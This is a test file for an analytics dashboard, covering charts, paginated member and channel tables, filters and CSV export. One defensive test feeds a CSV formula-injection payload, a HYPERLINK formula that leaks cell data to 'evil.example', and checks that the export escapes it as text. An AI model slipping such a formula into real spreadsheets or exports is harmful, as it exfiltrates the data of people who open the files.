import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  activityRowsResponse,
  activityTrendResponse,
  channelActivityResponse,
  memberActivitySchema,
  membersActivityResponse,
  membersChangeResponse,
  summaryCardsResponse,
  wordCloudResponse,
} from '@flywheel/shared/analytics';
import { fixture, reply } from '../../testing/fixture.ts';
import { captureDownloads } from '../../testing/downloads.ts';
import { deferred, mockApi, type MockReply } from '../../testing/mock-api.ts';
import { renderApp } from '../../testing/render.tsx';
import { loginResponse, seedSession } from '../../testing/session-fixtures.ts';
import { workspaceDataMocks } from '../../testing/workspace-fixtures.ts';

type Reply = Parameters<typeof mockApi>[0][string];
const me = { body: { ...loginResponse(), token: undefined } };
const MEMBER = (id: string, name: string, messages: number, activity: number) =>
  fixture(memberActivitySchema, {
    member_id: id,
    real_name: name,
    display_name: name.split(' ')[0]!.toLowerCase(),
    first_name: name.split(' ')[0]!,
    email: `${id.toLowerCase()}@x.io`,
    messages,
    replies: 0,
    reactions: activity - messages,
    activity,
  });

type MembersBody = { page?: number; page_size?: number };
/**
 * The server's Members Activity answer for `members` (already in its order, most active first): the page asked
 * for with `total`, or every row when no page_size is sent (the CSV download).
 */
const membersActivityReply =
  (members: ReturnType<typeof MEMBER>[]) =>
  (body: unknown): MockReply => {
    const { page = 1, page_size } = body as MembersBody;
    const data = page_size ? members.slice((page - 1) * page_size, page * page_size) : members;
    return reply(membersActivityResponse, { data, total: members.length });
  };

function analyticsMocks(over: Record<string, Reply> = {}): Record<string, Reply> {
  return {
    'GET /analytics/getanalyticscompare/T001/7': reply(summaryCardsResponse, {
      data: [
        { name: 'Messages', val: 1500, percent: 8, sign: '+' },
        { name: 'Active Members', val: 42, percent: 3.5, sign: '-' },
      ],
    }),
    'POST /analytics/activityanalytics': reply(activityRowsResponse, {
      data: [
        { date_of_data: '2026-03-01', messages: 4, replies: 1, reactions: 2, channel_id: 'C001' },
        { date_of_data: '2026-03-01', messages: 1, replies: 0, reactions: 0, channel_id: 'C002' },
        { date_of_data: '2026-03-02', messages: 2, replies: 2, reactions: 2, channel_id: 'C001' },
      ],
    }),
    'POST /analytics/getactivitytrend': reply(activityTrendResponse, {
      slots: { '00-02': 3, '02-04': 0, '08-10': 12 },
    }),
    'POST /analytics/wordcloud': reply(wordCloudResponse, {
      data: [
        { parsed_value: 'release', relevance: 0.987 },
        { parsed_value: 'meetup', relevance: 0.42 },
        { parsed_value: 'docs', relevance: 0.1 },
      ],
    }),
    'POST /analytics/memberschangeanalytics': reply(membersChangeResponse, {
      data: [
        {
          date_of_data: '2026-03-01',
          new_members: 2,
          dropped_members: 1,
          active_members: 9,
          overall_members: 50,
        },
        {
          date_of_data: '2026-03-02',
          new_members: 0,
          dropped_members: 0,
          active_members: 7,
          overall_members: 50,
        },
      ],
    }),
    'POST /analytics/membersactivityanalytics': reply(membersActivityResponse, {
      data: [MEMBER('U2', 'Grace "Amazing" Hopper', 8, 20), MEMBER('U1', 'Ada Lovelace', 2, 3)],
      total: 2,
    }),
    'POST /analytics/channelsactivityanalytics': reply(channelActivityResponse, {
      data: [
        { channel_id: 'C001', channel_name: 'general', messages: 3, replies: 1, reactions: 1, activity: 5 },
        { channel_id: 'C002', channel_name: 'random', messages: 9, replies: 2, reactions: 4, activity: 15 },
      ],
    }),
    'GET /analytics/cohorts/T001': { body: { data: COHORTS_EMPTY } },
    ...over,
  };
}
const COHORTS_EMPTY = { period: 'week', timezone: 'UTC', today: '2026-03-02', weeks: 12, cohorts: [] };

function setup(over: Record<string, Reply> = {}) {
  seedSession();
  return mockApi({ 'GET /auth/me': me, ...workspaceDataMocks('T001'), ...analyticsMocks(over) });
}

const card = (name: string) => screen.findByRole('region', { name }, { timeout: 8000 });
const empty = { body: { data: [] } };

/** Picks the 'vip' tag in a Members Activity card; the next request asks for page 1 of that tag. */
async function filterByVipTag(
  user: ReturnType<typeof renderApp>['user'],
  section: HTMLElement,
  api: ReturnType<typeof setup>,
) {
  await user.click(within(section).getByPlaceholderText('Filter by Tag'));
  await user.click(await screen.findByRole('option', { name: 'vip' }));
  await waitFor(() =>
    expect(api.callsTo('POST', '/analytics/membersactivityanalytics').at(-1)?.body).toMatchObject({
      tags: [1],
      page: 1,
      page_size: 10,
    }),
  );
}

// The dashboard is a lazy chunk: compile it once before the tests, so their timeouts measure the page.
beforeAll(() => import('./AnalyticsDashboard.tsx'), 60_000);

describe('Analytics page', () => {
  it('shows stat cards with signed percents in green and red', async () => {
    setup();
    renderApp('/dashboard/analytics');
    const up = await screen.findByRole('group', { name: 'Messages' }, { timeout: 8000 });
    expect(within(up).getByText('1,500')).toBeInTheDocument();
    expect(within(up).getByText('+8%').closest('[data-sign]')).toHaveAttribute('data-sign', '+');
    const down = screen.getByRole('group', { name: 'Active Members' });
    expect(within(down).getByText('-3.5%').closest('[data-sign]')).toHaveAttribute('data-sign', '-');
  });

  it('Activity: whole workspace by default, one channel when chosen, table view sums channels per day, CSV', async () => {
    const api = setup();
    const dl = captureDownloads();
    const { user } = renderApp('/dashboard/analytics');
    const activity = await card('Activity');
    await within(activity).findByTestId('activity-chart');
    expect(api.callsTo('POST', '/analytics/activityanalytics')[0]?.body).toEqual({
      team_id: 'T001',
      time_filter: { type: 'static', days: 7 },
      channels: [],
    });
    await user.click(within(activity).getByRole('combobox', { name: 'Activity channel' }));
    await user.click(await screen.findByRole('option', { name: '#general' }));
    await waitFor(() =>
      expect(api.callsTo('POST', '/analytics/activityanalytics').at(-1)?.body).toMatchObject({
        channels: ['C001'],
      }),
    );
    await user.click(within(activity).getByRole('radio', { name: 'Table' }));
    const table = await within(activity).findByRole('table', { name: 'Activity table' });
    const rows = within(table)
      .getAllByRole('row')
      .slice(1)
      .map((r) => r.textContent);
    expect(rows).toEqual(['2026-03-02222', '2026-03-01512']);
    await user.click(within(activity).getByRole('button', { name: 'Download Activity CSV' }));
    expect(dl.saved[0]?.name).toBe('Activity.csv');
    const text = dl.saved[0]!.text;
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.slice(1).trim().split('\r\n')).toEqual([
      '"Date","Messages","Replies","Reactions"',
      '"2026-03-01",5,1,2',
      '"2026-03-02",2,2,2',
    ]);
  });

  it('Activity Trends asks for 2-hour slots by default and the slot chosen', async () => {
    const api = setup();
    const { user } = renderApp('/dashboard/analytics');
    const trends = await card('Activity Trends');
    await within(trends).findByTestId('trends-chart');
    expect(api.callsTo('POST', '/analytics/getactivitytrend')[0]?.body).toEqual({
      team_id: 'T001',
      time_filter: { type: 'static', days: 7 },
      slot: 2,
    });
    await user.click(within(trends).getByRole('combobox', { name: 'Slot' }));
    expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual([
      '2 hrs',
      '3 hrs',
      '4 hrs',
      '6 hrs',
      '8 hrs',
      '12 hrs',
    ]);
    await user.click(screen.getByRole('option', { name: '6 hrs' }));
    await waitFor(() =>
      expect(api.callsTo('POST', '/analytics/getactivitytrend').at(-1)?.body).toMatchObject({ slot: 6 }),
    );
  });

  it('draws the word cloud with weights = relevance x 100 rounded down, 16-60 px, no rotation', async () => {
    setup();
    renderApp('/dashboard/analytics');
    const cloud = await screen.findByRole('list', { name: 'Word cloud' }, { timeout: 8000 });
    const words = within(cloud).getAllByRole('listitem');
    const byText = Object.fromEntries(words.map((w) => [w.textContent, w]));
    expect(byText.release).toHaveAttribute('data-weight', '98');
    expect(byText.meetup).toHaveAttribute('data-weight', '42');
    expect(byText.docs).toHaveAttribute('data-weight', '10');
    expect(byText.release!.style.fontSize).toBe('60px');
    expect(byText.docs!.style.fontSize).toBe('16px');
    expect(byText.release!.style.transition).toBe('all 1s ease');
    expect(byText.release!.style.transform).toBe('none');
  });

  it("toasts 'Cannot load wordcloud data!' and the server's message for other analytics failures", async () => {
    setup({
      'POST /analytics/wordcloud': { status: 500, body: { statusCode: 500, code: 'X', message: 'nope' } },
      'POST /analytics/getactivitytrend': {
        status: 400,
        body: { statusCode: 400, code: 'BAD', message: 'slot must be one of 2, 3, 4, 6, 8 or 12 hours' },
      },
    });
    renderApp('/dashboard/analytics');
    expect(
      (await screen.findAllByText('Cannot load wordcloud data!', {}, { timeout: 8000 })).length,
    ).toBeGreaterThan(0);
    expect(
      (await screen.findAllByText('slot must be one of 2, 3, 4, 6, 8 or 12 hours')).length,
    ).toBeGreaterThan(0);
  });

  it('shows every chart and table empty on an empty workspace', async () => {
    setup({
      'GET /analytics/getanalyticscompare/T001/7': empty,
      'POST /analytics/activityanalytics': empty,
      'POST /analytics/getactivitytrend': { body: { slots: {} } },
      'POST /analytics/wordcloud': empty,
      'POST /analytics/memberschangeanalytics': empty,
      'POST /analytics/membersactivityanalytics': { body: { data: [], total: 0 } },
      'POST /analytics/channelsactivityanalytics': empty,
    });
    renderApp('/dashboard/analytics');
    for (const name of [
      'Activity',
      'Activity Trends',
      'Word Cloud',
      'Users',
      'Members Activity',
      'Channel Activity',
    ]) {
      const c = await card(name);
      expect(await within(c).findByText('No Data Found')).toBeInTheDocument();
    }
  });

  it('Users: graph/table toggle and CSV of joined, left, active and overall', async () => {
    setup();
    const dl = captureDownloads();
    const { user } = renderApp('/dashboard/analytics');
    const users = await card('Users');
    await within(users).findByTestId('users-chart');
    await user.click(within(users).getByRole('radio', { name: 'Table' }));
    expect(await within(users).findByRole('table', { name: 'Users table' })).toBeInTheDocument();
    await user.click(within(users).getByRole('button', { name: 'Download Users CSV' }));
    const text = dl.saved[0]!.text;
    expect(dl.saved[0]!.name).toBe('Users.csv');
    expect(text.slice(1).trim().split('\r\n')).toEqual([
      '"Date","Members Joined","Members Left","Active Members","Overall Members"',
      '"2026-03-01",2,1,9,50',
      '"2026-03-02",0,0,7,50',
    ]);
  });

  it('Members Activity: asks for page 1 of 10 rows, shows them in the server order, filters reach the request, CSV quotes names', async () => {
    const api = setup({
      // Not the activity order: the card shows rows as the server sends them.
      'POST /analytics/membersactivityanalytics': membersActivityReply([
        MEMBER('U1', 'Ada Lovelace', 2, 3),
        MEMBER('U2', 'Grace "Amazing" Hopper', 8, 20),
      ]),
    });
    const dl = captureDownloads();
    const { user } = renderApp('/dashboard/analytics');
    const section = await card('Members Activity');
    const table = await within(section).findByRole('table', { name: 'Members Activity' });
    expect(api.callsTo('POST', '/analytics/membersactivityanalytics')[0]?.body).toEqual({
      team_id: 'T001',
      time_filter: { type: 'static', days: 7 },
      channels: [],
      tags: [],
      page: 1,
      page_size: 10,
    });
    expect(
      within(table)
        .getAllByRole('link')
        .map((a) => a.textContent),
    ).toEqual(['Ada Lovelace', 'Grace "Amazing" Hopper']);
    expect(within(section).getByText('2 members')).toBeInTheDocument();
    // One page only: no pager.
    expect(within(section).queryByRole('button', { name: '2' })).not.toBeInTheDocument();
    await user.click(within(section).getByRole('button', { name: 'Filter by Activity' }));
    const dialog = await screen.findByRole('dialog', { name: 'Activity Filter' });
    await user.click(within(dialog).getByRole('combobox', { name: 'Messages operator' }));
    await user.click(await screen.findByRole('option', { name: '>' }));
    fireEvent.change(within(dialog).getByRole('textbox', { name: 'Messages count' }), {
      target: { value: '5' },
    });
    await user.click(within(dialog).getByRole('button', { name: 'Apply' }));
    await waitFor(() =>
      expect(api.callsTo('POST', '/analytics/membersactivityanalytics').at(-1)?.body).toMatchObject({
        activity_filter: { type: 'AND', message_filter: { operator: '>', count: 5 } },
        page: 1,
        page_size: 10,
      }),
    );
    await filterByVipTag(user, section, api);
    await user.click(within(section).getByRole('button', { name: 'Download Members Activity CSV' }));
    await waitFor(() => expect(dl.saved).toHaveLength(1));
    expect(dl.saved[0]!.name).toBe('Members Activity.csv');
    const text = dl.saved[0]!.text;
    expect(text.slice(1).trim().split('\r\n')).toEqual([
      '"Real Name","Display Name","Email","Messages","Replies","Reactions","Activity"',
      '"Ada Lovelace","ada","u1@x.io",2,0,1,3',
      '"Grace ""Amazing"" Hopper","grace","u2@x.io",8,0,12,20',
    ]);
  });

  it('Members Activity: the server pages the table (page 2 asks for page 2, previous rows stay while it loads), a filter goes back to page 1', async () => {
    const members = Array.from({ length: 23 }, (_, i) =>
      MEMBER(`U${String(i + 1).padStart(2, '0')}`, `Member ${i + 1}`, 50 - i, 100 - i),
    );
    const page2 = deferred<void>();
    const serve = membersActivityReply(members);
    const api = setup({
      'POST /analytics/membersactivityanalytics': async (body) => {
        if ((body as MembersBody).page === 2) await page2.promise;
        return serve(body);
      },
    });
    const { user } = renderApp('/dashboard/analytics');
    const section = await card('Members Activity');
    const table = await within(section).findByRole('table', { name: 'Members Activity' });
    const names = () =>
      within(table)
        .getAllByRole('link')
        .map((a) => a.textContent);
    expect(names()).toEqual(members.slice(0, 10).map((m) => m.real_name));
    expect(within(section).getByText('23 members')).toBeInTheDocument();
    expect(within(section).getByRole('button', { name: '3' })).toBeInTheDocument();
    expect(within(section).queryByRole('button', { name: '4' })).not.toBeInTheDocument();

    await user.click(within(section).getByRole('button', { name: '2' }));
    await waitFor(() =>
      expect(api.callsTo('POST', '/analytics/membersactivityanalytics').at(-1)?.body).toMatchObject({
        page: 2,
        page_size: 10,
      }),
    );
    // keepPreviousData: page 1 stays on screen (no loader) until page 2 arrives.
    expect(
      within(section).queryByRole('status', { name: 'Loading Members Activity' }),
    ).not.toBeInTheDocument();
    expect(names()).toEqual(members.slice(0, 10).map((m) => m.real_name));
    page2.release();
    await waitFor(() => expect(names()).toEqual(members.slice(10, 20).map((m) => m.real_name)));
    expect(within(section).getByText('23 members')).toBeInTheDocument();

    await user.click(within(section).getByRole('button', { name: '3' }));
    await waitFor(() => expect(names()).toEqual(members.slice(20).map((m) => m.real_name)));
    expect(api.callsTo('POST', '/analytics/membersactivityanalytics').at(-1)?.body).toMatchObject({
      page: 3,
      page_size: 10,
    });

    await filterByVipTag(user, section, api);
    await waitFor(() => expect(names()).toEqual(members.slice(0, 10).map((m) => m.real_name)));
  });

  it('Members Activity CSV fetches every match for the current filters (no page_size) and writes every row', async () => {
    const members = Array.from({ length: 23 }, (_, i) =>
      MEMBER(`U${String(i + 1).padStart(2, '0')}`, `Member ${i + 1}`, 50 - i, 100 - i),
    );
    const all = deferred<void>();
    const serve = membersActivityReply(members);
    const api = setup({
      'POST /analytics/membersactivityanalytics': async (body) => {
        if ((body as MembersBody).page_size === undefined) await all.promise;
        return serve(body);
      },
    });
    const dl = captureDownloads();
    const { user } = renderApp('/dashboard/analytics');
    const section = await card('Members Activity');
    await within(section).findByRole('table', { name: 'Members Activity' });
    await user.click(within(section).getByRole('button', { name: '2' }));
    await waitFor(() =>
      expect(api.callsTo('POST', '/analytics/membersactivityanalytics').at(-1)?.body).toMatchObject({
        page: 2,
      }),
    );
    const button = within(section).getByRole('button', { name: 'Download Members Activity CSV' });
    await user.click(button);
    const asked = api.callsTo('POST', '/analytics/membersactivityanalytics').at(-1)?.body;
    expect(asked).toEqual({
      team_id: 'T001',
      time_filter: { type: 'static', days: 7 },
      channels: [],
      tags: [],
    });
    // Loading while the rows come.
    await waitFor(() => expect(button).toHaveAttribute('data-loading'));
    expect(dl.saved).toHaveLength(0);
    all.release();
    await waitFor(() => expect(dl.saved).toHaveLength(1));
    await waitFor(() => expect(button).not.toHaveAttribute('data-loading'));
    const lines = dl.saved[0]!.text.slice(1).trim().split('\r\n');
    expect(lines[0]).toBe('"Real Name","Display Name","Email","Messages","Replies","Reactions","Activity"');
    expect(lines.slice(1)).toEqual(
      members.map(
        (m) =>
          `"${m.real_name}","${m.display_name}","${m.email}",${m.messages},0,${m.reactions},${m.activity}`,
      ),
    );
  });

  it("Members Activity CSV: a failed fetch toasts the server's message and saves nothing", async () => {
    const serve = membersActivityReply([MEMBER('U1', 'Ada Lovelace', 2, 3)]);
    setup({
      'POST /analytics/membersactivityanalytics': (body) =>
        (body as MembersBody).page_size === undefined
          ? { status: 500, body: { statusCode: 500, code: 'X', message: 'Members are too many today' } }
          : serve(body),
    });
    const dl = captureDownloads();
    const { user } = renderApp('/dashboard/analytics');
    const section = await card('Members Activity');
    await within(section).findByRole('table', { name: 'Members Activity' });
    await user.click(within(section).getByRole('button', { name: 'Download Members Activity CSV' }));
    expect(await screen.findByText('Members are too many today')).toBeInTheDocument();
    expect(dl.saved).toHaveLength(0);
    // The table is still there.
    expect(within(section).getByRole('table', { name: 'Members Activity' })).toBeInTheDocument();
  });

  it('Members Activity and Channel Activity CSVs: a Slack name that is a formula is saved as text, not run', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    setup({
      'POST /analytics/membersactivityanalytics': membersActivityReply([
        { ...MEMBER('U1', 'Mallory', 2, 3), real_name: formula, display_name: '@here', email: '+1@x.io' },
      ]),
      'POST /analytics/channelsactivityanalytics': reply(channelActivityResponse, {
        data: [
          { channel_id: 'C009', channel_name: '-2+3', messages: -1, replies: 0, reactions: 0, activity: 1 },
        ],
      }),
    });
    const dl = captureDownloads();
    const { user } = renderApp('/dashboard/analytics');
    const members = await card('Members Activity');
    await within(members).findByRole('table', { name: 'Members Activity' });
    await user.click(within(members).getByRole('button', { name: 'Download Members Activity CSV' }));
    await waitFor(() => expect(dl.saved).toHaveLength(1));
    expect(dl.saved[0]!.text.slice(1).trim().split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")","'@here","'+1@x.io",2,0,1,3`,
    );
    const channels = await card('Channel Activity');
    await within(channels).findByRole('table', { name: 'Channel Activity' });
    await user.click(within(channels).getByRole('button', { name: 'Download Channel Activity CSV' }));
    await waitFor(() => expect(dl.saved).toHaveLength(2));
    expect(dl.saved[1]!.name).toBe('Channel Activity.csv');
    // A negative count is a number, written bare; a channel name starting with '-' is text.
    // Channel names carry their '#' as on screen, so a channel named like a formula is text there too.
    expect(dl.saved[1]!.text.slice(1).trim().split('\r\n')[1]).toBe(`"#-2+3",-1,0,0,1`);
  });

  it('Channel Activity sits under #channel, busiest first, with Filter by Activity', async () => {
    setup();
    const { user } = renderApp('/dashboard/analytics#channel');
    const section = await card('Channel Activity');
    expect(section).toHaveAttribute('id', 'channel');
    const table = await within(section).findByRole('table', { name: 'Channel Activity' });
    expect(
      within(table)
        .getAllByRole('row')
        .slice(1)
        .map((r) => r.firstChild?.textContent),
    ).toEqual(['#random', '#general']);
    expect(within(section).getByRole('button', { name: 'Filter by Activity' })).toBeInTheDocument();
    // The CSV names the channels as the table does (and as the server's bucket CSVs do): '#random'.
    const dl = captureDownloads();
    await user.click(within(section).getByRole('button', { name: 'Download Channel Activity CSV' }));
    const lines = dl.saved[0]!.text.replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(['"#random"', '"#general"']);
  });
});
